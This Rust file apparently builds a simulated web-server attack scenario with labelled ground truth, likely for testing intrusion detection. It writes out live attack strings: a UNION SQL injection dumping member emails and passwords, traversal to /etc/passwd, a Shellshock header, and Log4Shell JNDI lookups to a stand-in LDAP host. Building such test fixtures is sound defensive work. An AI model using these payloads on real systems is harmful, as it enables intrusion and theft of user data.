//! Attacks on the web site: scanners, holes that are open and holes that are not.

use super::ordinary;
use super::payloads::{
    CODE, FILES, KNOWN_HOLES, MARKUP, SCANNER_PATHS, SQL_IN_VAIN, SQL_TRIALS, TRAVERSAL, TRAVERSAL_IN_VAIN,
};
use crate::stage::clock::at;
use crate::stage::plan::{Plan, Request, attacker, far};
use crate::stage::truth::Declared;

const BROWSER: &str =
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36";
const NIKTO: &str = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000593)";
const SQLMAP: &str = "sqlmap/1.8.11#stable (https://sqlmap.org)";

/// The statement that really brings out the table of members.
const DUMP: &str = "/item?id=-1%20UNION%20SELECT%20email,password,phone%20FROM%20members--%20";

pub(super) fn plan() -> Plan {
    let mut plan = Plan::new("webattack", "web04", at(13, 1, 0, 0));
    for day in 13..=15 {
        ordinary::visits(&mut plan, day, 20);
        ordinary::crawl(&mut plan, day);
        ordinary::shoppers(&mut plan, day, 12);
    }
    ordinary::work(&mut plan, 14);
    ordinary::cron(&mut plan, 14, &[4, 16]);
    series(&mut plan, at(14, 2, 5, 0), "scanner", (far(7, 20), NIKTO), &SCANNER_PATHS, 1);
    series(&mut plan, at(14, 4, 31, 0), "sqlmap", (far(8, 3), SQLMAP), &SQL_IN_VAIN, 2);
    series(&mut plan, at(14, 13, 12, 0), "sql", (attacker(71), BROWSER), &SQL_TRIALS, 19);
    let mut dump = Request::get(attacker(71), DUMP, BROWSER);
    dump.expect = "kaiin042@example.jp";
    plan.ask(at(14, 13, 20, 30), Some("sql"), dump);
    series(&mut plan, at(14, 15, 40, 0), "traversal", (attacker(72), "curl/8.5.0"), &TRAVERSAL, 11);
    let mut read = Request::get(attacker(72), "/download.php?file=../../etc/passwd", "curl/8.5.0");
    read.expect = "root:x:0:0:";
    plan.ask(at(14, 15, 44, 0), Some("traversal"), read);
    let zgrab = "Mozilla/5.0 zgrab/0.x";
    series(&mut plan, at(14, 17, 2, 0), "traversal_in_vain", (far(21, 9), zgrab), &TRAVERSAL_IN_VAIN, 4);
    series(&mut plan, at(14, 18, 20, 0), "code", (far(22, 14), BROWSER), &CODE, 6);
    header(&mut plan, at(14, 18, 22, 0), "User-Agent: () { :;}; /bin/bash -c 'id'", far(22, 14));
    header(&mut plan, at(14, 18, 22, 9), "User-Agent: ${jndi:ldap://192.0.2.250:1389/a}", far(22, 14));
    header(
        &mut plan,
        at(14, 18, 22, 15),
        "Referer: ${${lower:j}ndi:${lower:l}dap://192.0.2.250/b}",
        far(22, 14),
    );
    series(&mut plan, at(14, 19, 10, 0), "holes", (far(23, 101), "Go-http-client/1.1"), &KNOWN_HOLES, 3);
    series(&mut plan, at(14, 20, 1, 0), "files", (far(24, 66), BROWSER), &FILES, 2);
    series(&mut plan, at(14, 21, 15, 0), "markup", (far(25, 18), BROWSER), &MARKUP, 14);
    plan.declared = declared();
    plan
}

/// One request after the other from one source.
fn series(
    plan: &mut Plan,
    start: i64,
    incident: &'static str,
    (from, agent): (std::net::IpAddr, &str),
    targets: &[&str],
    pace: i64,
) {
    for (number, target) in (0_i64..).zip(targets) {
        plan.ask(start + number * pace, Some(incident), Request::get(from, *target, agent));
    }
}

/// A request whose attack stands in a header.
fn header(plan: &mut Plan, at: i64, line: &str, from: std::net::IpAddr) {
    let mut request = Request::get(from, "/search?q=kanri", BROWSER);
    request.more = vec!["-H".to_owned(), line.to_owned()];
    plan.ask(at, Some("code"), request);
}

fn declared() -> Vec<Declared> {
    vec![
        Declared::incident("scanner", "vulnerability_scan", "attempt")
            .also(&["vulnerability_probe", "sensitive_file_probe", "path_traversal", "cross_site_scripting"])
            .notes("the paths and the agent of nikto, one a second; nothing was there"),
        Declared::incident("sqlmap", "sql_injection", "attempt")
            .also(&["vulnerability_scan"])
            .notes("the agent and the statements of sqlmap against the search, which has no such hole"),
        Declared::incident("sql", "sql_injection", "security_hole")
            .also(&["vulnerability_scan"])
            .notes(
                "by hand with the agent of a browser: errors, then a UNION that brought out the table of members; the \
                 last answer is larger than any before",
            ),
        Declared::incident("traversal", "path_traversal", "security_hole")
            .also(&["vulnerability_scan", "sensitive_file_probe"])
            .notes("/etc/passwd and others were really read through download.php"),
        Declared::incident("traversal_in_vain", "path_traversal", "attempt")
            .also(&["vulnerability_scan", "vulnerability_probe", "sensitive_file_probe"])
            .notes("refused by nginx with 400 or 404"),
        Declared::incident("code", "code_execution", "attempt")
            .also(&["vulnerability_scan", "vulnerability_probe", "path_traversal"])
            .notes("shell, template, PHP and Java injection, Shellshock and JNDI in headers; nothing ran"),
        Declared::incident("holes", "vulnerability_probe", "attempt")
            .also(&["vulnerability_scan", "path_traversal", "code_execution", "sensitive_file_probe"])
            .notes("requests for known holes of products that are not there"),
        Declared::incident("files", "sensitive_file_probe", "attempt")
            .also(&["vulnerability_scan", "vulnerability_probe"])
            .notes("backups, keys and settings; nothing was there"),
        Declared::incident("markup", "cross_site_scripting", "attempt")
            .also(&["vulnerability_scan"])
            .notes("script in values of the search"),
    ]
}
